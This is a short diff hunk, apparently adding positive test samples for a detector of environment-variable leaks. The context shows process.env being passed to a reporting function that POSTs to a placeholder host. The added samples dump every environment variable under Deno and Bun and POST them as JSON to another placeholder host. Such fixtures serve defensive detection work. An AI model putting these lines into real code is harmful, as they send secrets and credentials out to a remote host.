@@ -43,3 +43,9 @@ function report(data) { return fetch("https://c.example/r", { method: "POST", bo
 const env = Object.assign({}, process.env, { CI: "1" });
 cp.spawnSync("make", [], { env });
 report(env);
+//@ pos Deno.env.toObject() posted
+const all = Deno.env.toObject();
+fetch('https://x.example/e', { method: 'POST', body: JSON.stringify(all) });
+//@ pos Bun.env posted
+const all = Bun.env;
+fetch('https://x.example/e', { method: 'POST', body: JSON.stringify(all) });
